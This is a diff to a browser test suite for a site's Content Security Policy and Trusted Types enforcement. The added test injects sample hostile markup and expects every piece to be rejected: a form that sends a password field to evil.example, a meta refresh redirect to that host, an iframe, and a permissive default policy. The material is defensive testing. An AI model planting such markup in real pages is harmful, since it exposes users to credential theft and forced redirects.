@@ -144,11 +144,48 @@ test('injected scripts, handlers, styles, eval and foreign requests are stopped'
   const stopped = new Set(found.map((violation) => violation.split(' ')[1]));
   expect([...stopped].sort()).toEqual([
     'base-uri',
-    'script-src',
+    'require-trusted-types-for',
     'script-src-attr',
     'script-src-elem',
     'style-src-elem',
   ]);
+});
+
+test('a string becomes no markup that loads or sends something, and no other policy allows it', async ({ page }) => {
+  await page.goto('/plans');
+  await hydrated(page);
+  const results = await page.evaluate(() => {
+    const attempt = (action: (element: HTMLElement) => void) => {
+      try {
+        action(document.createElement('div'));
+        return 'allowed';
+      } catch (error) {
+        return (error as Error).name;
+      }
+    };
+    const markup = (html: string) =>
+      attempt((element) => {
+        element.innerHTML = html;
+      });
+    return {
+      'highlighted code': markup('<span class="token">device list</span>'),
+      'a form': markup('<form action="https://evil.example"><input name="password"></form>'),
+      'a frame': markup('<IFRAME srcdoc="x"></IFRAME>'),
+      'a redirect': markup('<meta http-equiv="refresh" content="0;url=https://evil.example">'),
+      'a policy that allows everything': attempt(() =>
+        (
+          window as unknown as { trustedTypes: { createPolicy(name: string, rules: object): void } }
+        ).trustedTypes.createPolicy('default', {}),
+      ),
+    };
+  });
+  expect(results).toEqual({
+    'highlighted code': 'allowed',
+    'a form': 'TypeError',
+    'a frame': 'TypeError',
+    'a redirect': 'TypeError',
+    'a policy that allows everything': 'TypeError',
+  });
 });
 
 test('the site cannot be framed', async ({ page, baseURL, siteOf }) => {
